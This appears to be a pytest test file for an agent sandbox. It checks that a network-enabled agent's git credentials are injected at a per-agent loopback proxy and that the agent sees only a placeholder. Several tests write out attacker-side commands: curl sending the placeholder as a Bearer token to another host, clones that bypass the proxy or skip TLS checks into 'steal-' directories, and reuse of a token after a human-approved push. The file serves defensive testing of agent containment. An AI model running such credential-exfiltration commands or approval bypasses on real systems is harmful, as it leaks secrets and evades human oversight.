"""Issue 30 item 2 for an agent with `network = true` (the host's network):
its git reaches the hosts its git credential covers through the daemon's
injecting proxy, by a per-URL proxy (`http.https://HOST/.proxy`) naming a
port on the host's loopback that serves this agent's processes only (the
kernel's socket diagnostics name the connecting socket's uid and cgroup),
and the sandbox holds only a placeholder.

The servers are test_egress_credentials.py's (real TLS, a test CA in the
bed's trust store, git http-backend behind basic auth at git.test, other.test
recording what it gets). From the attacker's side: inside the agent, `git
credential fill` and `lev tool git_fetch` give only the placeholder (on the
code before this change they printed the token: seen failing), and the
placeholder sent to another host or straight to git.test past the proxy is
refused there; on the host, bob (and alice herself, outside the agent) who
point their git at the agent's port get nothing through it (seen failing
with the peer check turned off: bob's clone through the port succeeded)."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from loop_agent import lay_out, start_detached
from test_egress_credentials import (
    API_TOKEN,
    BLUEPRINT,
    GIT_TOKEN,
    SNOOP,
    answering,
    git_log,
    log,
    pending,
    servers,
)
from test_gate_bed import Agent, lev
from testbed import Testbed

pytestmark = pytest.mark.testbed

# The proxy and credentials part, shared with test_egress_none.py (the same
# tests against a kind none agent).
CREDENTIALS = """
[proxy]
private_ranges = ["10.78.0.0/24"]

[taint]
approval_timeout = 30

[credentials.gitsrv]
kind = "git"
hosts = ["git.test"]
access = ["fetch", "push"]
secret_file = "/etc/leviath/inj-git.token"

[credentials.api]
kind = "http"
hosts = ["api.test"]
token_env = "GH_TOKEN"
secret_file = "/etc/leviath/inj-api.token"
"""

CONFIG = """
[sandbox]
kind = "namespace"
network = true
""" + CREDENTIALS


@pytest.fixture(scope="module")
def agent(testbed: Testbed) -> Iterator[Agent]:
    bed = testbed
    lay_out(bed, "egdw", "egdbp", BLUEPRINT)
    with servers(bed, CONFIG), answering(bed, Agent(
            bed, "alice", start_detached(bed, "egdbp", "egdw"),
            f"{bed.users['alice'].home}/egdw")) as a:
        yield a


def port_of(agent: Agent) -> int:
    rc, out, err = agent.call("git config --get-urlmatch http.proxy https://git.test/repo.git")
    assert rc == 0 and out.startswith("http://127.0.0.1:"), (out, err)
    return int(out.strip().rsplit(":", 1)[1])


def placeholder_of(agent: Agent) -> str:
    rc, out, err = agent.call("printf 'protocol=https\\nhost=git.test\\npath=repo.git\\n\\n' | "
                              "git credential fill")
    assert rc == 0, err
    assert GIT_TOKEN not in out, out
    ph = [ln.split("=", 1)[1] for ln in out.splitlines() if ln.startswith("password=")]
    assert ph and ph[0].startswith("leviath-placeholder-"), out
    return ph[0]


def test_git_credential_fill_and_the_tool_give_only_a_placeholder(agent: Agent) -> None:
    placeholder_of(agent)
    rc, out, err = agent.call("lev tool git_fetch https://git.test/repo.git")
    assert GIT_TOKEN not in out + err, (out, err)
    assert "leviath-placeholder-" in out, (rc, out, err)


def test_clone_works_and_no_secret_is_anywhere_the_agent_can_read(agent: Agent) -> None:
    rc, out, err = agent.call(SNOOP, timeout=60)
    assert rc == 0, err
    lines = out.splitlines()
    assert lines[0] == "clone=0", (out, err)
    assert lines[1] == "0" and lines[-1] == "hits:", out
    assert GIT_TOKEN not in out + err and API_TOKEN not in out + err
    _rc, out, _ = agent.call("cat snoop/README")
    assert out == "hello\n"


def test_a_push_waits_for_a_person_and_then_lands(testbed: Testbed, agent: Agent) -> None:
    agent.call("test -d snoop || git clone -q https://git.test/repo.git snoop", timeout=60)
    n = agent.submit("cd snoop && echo direct >> README && git -c user.name=a -c "
                     "user.email=a@a commit -q -am direct-push && git push -q origin main")
    row = pending(testbed, agent.id)
    assert row["tool"] == "git_push" and "refs/heads/main:" in row.get("detail", ""), row
    assert "direct-push" not in git_log(testbed)
    lev(testbed, "alice", "approve", row["id"], "--once")
    rc, _, err = agent.result(n)
    assert rc == 0, err
    assert "direct-push" in git_log(testbed)
    rc, _, err = agent.call("cd snoop && git fetch -q origin && git log --oneline origin/main")
    assert rc == 0, err


def test_the_placeholder_is_worthless_anywhere_else(testbed: Testbed, agent: Agent) -> None:
    """Sent past the proxy to git.test itself, or to another host: only the
    placeholder arrives, and git.test refuses it."""
    ph = placeholder_of(agent)
    testbed.run("rm -f /srv/inj/log.jsonl")
    _rc, out, err = agent.call(
        "rm -rf past && GIT_TERMINAL_PROMPT=0 git -c 'http.https://git.test/.proxy=' clone -q "
        f"https://x-access-token:{ph}@git.test/repo.git past; echo clone=$?; "
        f"curl -sS https://other.test/elsewhere -H 'Authorization: Bearer {ph}'", timeout=60)
    assert "clone=0" not in out, (out, err)
    assert GIT_TOKEN not in out + err
    seen = log(testbed)
    assert seen and all(GIT_TOKEN not in str(e["auth"]) for e in seen), seen
    assert any(e["host"] == "other.test" for e in seen), seen


def test_the_port_serves_no_other_host(agent: Agent) -> None:
    port = port_of(agent)
    _rc, out, err = agent.call(f"curl -sS --proxy http://127.0.0.1:{port} "
                              "https://other.test/viaport; echo rc=$?")
    assert "hello from other.test" not in out, (out, err)
    _rc, out, err = agent.call(f"curl -sS --proxy http://127.0.0.1:{port} "
                              "http://other.test/plain")
    assert "only the hosts of the agent's injected credentials" in out, (out, err)


@pytest.mark.parametrize("who", ["bob", "alice"])
def test_no_one_else_gets_the_secret_sent_through_the_agents_port(
        testbed: Testbed, agent: Agent, who: str) -> None:
    """bob (another user), and alice herself outside the agent, know the
    port and the placeholder (both are easy to learn) and need not trust
    the agent's CA (they skip verification toward the proxy): their clone
    through the port must not get the secret sent."""
    port = port_of(agent)
    ph = placeholder_of(agent)
    testbed.run("rm -f /srv/inj/log.jsonl")
    r = testbed.run(
        f"cd /tmp && rm -rf steal-{who} && GIT_TERMINAL_PROMPT=0 git "
        f"-c http.proxy=http://127.0.0.1:{port} -c http.sslVerify=false clone -q "
        f"https://x-access-token:{ph}@git.test/repo.git steal-{who}; echo clone=$?; "
        f"curl -sSk --proxy http://127.0.0.1:{port} "
        f"'https://git.test/repo.git/info/refs?service=git-upload-pack' -u x-access-token:{ph}"
        " -o /dev/null; echo curl=$?", user=who, check=False, timeout=60)
    assert "clone=0" not in r.stdout, (r.stdout, r.stderr)
    assert "curl=0" not in r.stdout, (r.stdout, r.stderr)
    assert GIT_TOKEN not in r.stdout + r.stderr
    seen = log(testbed)
    assert not seen, seen  # nothing reached the server through the port
    # The agent's own use of it still works after these.
    rc, _, err = agent.call("git ls-remote -q https://git.test/repo.git", timeout=60)
    assert rc == 0, err


def test_lev_inspect_says_how_git_reaches_the_covered_hosts(testbed: Testbed, agent: Agent
                                                             ) -> None:
    out = lev(testbed, "alice", "inspect", agent.id).stdout
    assert "credential gitsrv (kind git): injected at the proxy toward git.test" in out, out
    assert "network = true" in out and "loopback port" in out, out
    assert "credential api (kind http): not injected at the egress" in out, out
    assert GIT_TOKEN not in out


def test_an_approved_push_hands_out_no_token_to_reuse(testbed: Testbed, agent: Agent) -> None:
    """The hold-out attack: once a person approved one push, the push token
    was the agent's (the git_push tool's answer) to send anywhere. Now the
    approved answer is the placeholder; each push is asked at the proxy."""
    n = agent.submit("lev tool git_push https://git.test/repo.git")
    row = pending(testbed, agent.id)
    assert row["tool"] == "git_push", row
    lev(testbed, "alice", "approve", row["id"], "--once")
    rc, out, err = agent.result(n)
    assert GIT_TOKEN not in out + err, (out, err)
    assert rc == 0 and "leviath-placeholder-" in out, (rc, out, err)


def test_after_a_daemon_restart_git_goes_through_a_new_port_with_the_placeholder(
        testbed: Testbed, agent: Agent) -> None:
    before = port_of(agent)
    testbed.run(["systemctl", "restart", "leviathd"])
    placeholder_of(agent)  # from the broker's first call on, never the token
    after = port_of(agent)
    assert after != before or testbed.run(
        f"ss -ltnH 'sport = :{after}'", check=False).stdout.strip()
    rc, out, err = agent.call("rm -rf again && git clone -q https://git.test/repo.git again "
                              "&& cat again/README", timeout=60)
    assert rc == 0 and out.startswith("hello"), (out, err)
